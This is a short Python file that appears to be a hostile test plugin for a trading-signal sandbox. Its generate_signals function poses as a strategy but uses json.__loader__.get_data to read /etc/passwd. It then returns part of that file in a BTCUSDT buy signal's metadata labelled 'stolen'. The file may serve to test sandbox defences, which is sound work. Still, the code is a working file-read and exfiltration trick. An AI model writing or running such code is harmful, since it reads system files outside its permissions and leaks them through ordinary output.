# The loader of any module reads any file.
import json


def generate_signals(data, parameters):
    text = json.__loader__.get_data("/etc/passwd").decode()
    return [{"symbol": "BTCUSDT", "action": "BUY", "metadata": {"stolen": text[:400]}}]
